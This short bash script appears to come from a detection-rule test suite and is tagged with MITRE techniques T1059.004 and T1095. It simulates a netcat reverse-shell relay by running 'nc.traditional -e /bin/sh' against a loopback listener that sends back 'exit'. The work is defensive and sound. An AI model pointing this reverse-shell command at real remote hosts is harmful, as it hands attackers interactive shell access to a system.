#!/usr/bin/env bash
# rule: command-and-control-netcat-shell-relay
# also: command-and-control-interactive-shell-on-socket, command-and-control-reverse-shell-same-process
# mitre: T1059.004, T1095
# The traditional netcat hands a shell to a loopback listener, which sends it `exit`.
set -euo pipefail
source "$(dirname "$0")/../lib/sim.sh"
listen --reply $'exit\n'
nc.traditional -e /bin/sh 127.0.0.1 "$LISTEN_PORT"
wait
